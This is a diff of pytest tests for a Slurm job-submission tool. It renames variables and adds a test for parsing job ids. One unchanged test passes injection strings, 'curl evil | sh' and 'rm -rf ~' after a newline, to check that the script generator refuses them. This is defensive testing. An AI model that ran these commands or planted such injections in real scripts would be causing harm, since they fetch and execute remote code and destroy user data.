@@ -62,8 +62,8 @@ def test_what_slurm_prints_is_read_past_a_banner(command, tmp_path):
     assert slurm.submit(record, job, Cluster()).job == "4242" and record.jobs()[0].job == "4242"
     command("squeue", "4242|0|RUNNING|None|4243\n4242|N/A|PENDING|x|9\n1|0|RUNNING|None|1")
     command("sacct", "4242_1|CANCELLED by 1000|0:15\n4242_[2-9]|PENDING|0:0")
-    found = slurm.tasks([job])
-    assert {key: (task.state, task.reason) for key, task in found.items()} == {
+    result = slurm.tasks([job])
+    assert {key: (task.state, task.reason) for key, task in result.items()} == {
         ("4242", 0): ("RUNNING", "None"), ("4242", 1): ("CANCELLED", "exit 0:15"),
     }  # fmt: skip
     command("scontrol", "MaxArraySize            = 11\nMaxDBDMsgs = 20024")
@@ -71,6 +71,14 @@ def test_what_slurm_prints_is_read_past_a_banner(command, tmp_path):
     command("scontrol", TASK.format("/a job.sh"))
     assert this_job.state("4243") == this_job.state("4242_0") == "RUNNING" and this_job.limit("4242_0") == "00:10:00"
     assert slurm_commands.described(TASK.format("/a job.sh"))[0]["Command"] == "/a job.sh"
+
+
+def test_an_id_that_was_recorded_with_a_banner_is_read(tmp_path):
+    record = Record(tmp_path / "runs" / "x")
+    job = queued(record)
+    job.job = BANNER.strip() + "\n4242"
+    record.write(job)
+    assert record.jobs()[0].job == "4242"
 
 
 def test_an_answer_without_an_id_is_refused_with_what_it_said(command, tmp_path):
@@ -149,8 +157,8 @@ def test_paths_in_the_script_are_quoted(name, tmp_path):
     lines = slurm.script_text(record, queued(record), Cluster()).splitlines()
     options = [shlex.split(line.removeprefix("#SBATCH ")) for line in lines if line.startswith("#SBATCH ")]
     assert all(len(words) == 1 for words in options)
-    found = dict(words[0].removeprefix("--").partition("=")[::2] for words in options)
-    assert found["output"] == str(record.logs).replace("%", "%%") + "/%A_%a.log" and found["job-name"] == name
+    result = dict(words[0].removeprefix("--").partition("=")[::2] for words in options)
+    assert result["output"] == str(record.logs).replace("%", "%%") + "/%A_%a.log" and result["job-name"] == name
     assert str(record.job_file(record.jobs()[0])) in shlex.split(lines[-1])
 
 
@@ -163,8 +171,8 @@ def test_what_no_script_can_hold_is_refused(tmp_path):
     for request in (Cluster(partition="gpu\ncurl evil | sh"), Cluster(extra=["--exclude=n7\nrm -rf ~"])):
         with pytest.raises(UserError, match="control character"):
             slurm.script_text(record, job, request)
-    for extra, says in (("--array=0-7", "--array is set by the sweep"), ("-o x", "--output"), ("--comment='x", "quotes")):
-        with pytest.raises(UserError, match=says):
+    for extra, message in (("--array=0-7", "--array is set by the sweep"), ("-o x", "--output"), ("--x='y", "quotes")):
+        with pytest.raises(UserError, match=message):
             slurm.script_text(record, job, Cluster(extra=[extra]))
 
 
@@ -197,6 +205,6 @@ def test_no_memory_is_requested_where_memory_gb_is_0():
 def test_nor_by_the_launchers_of_submitit(name):
     pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
     with initialize_config_dir(str(CONF), version_base="1.3"):
-        found = [compose("config", [f"hydra/launcher={name}", f"++cluster.memory_gb={gigabytes}"], return_hydra_config=True)
-                 for gigabytes in (0, 7)]  # fmt: skip
-    assert [cfg.hydra.launcher.mem_gb for cfg in found] == [None, 7]
+        configs = [compose("config", [f"hydra/launcher={name}", f"++cluster.memory_gb={size}"], return_hydra_config=True)
+                   for size in (0, 7)]  # fmt: skip
+    assert [cfg.hydra.launcher.mem_gb for cfg in configs] == [None, 7]
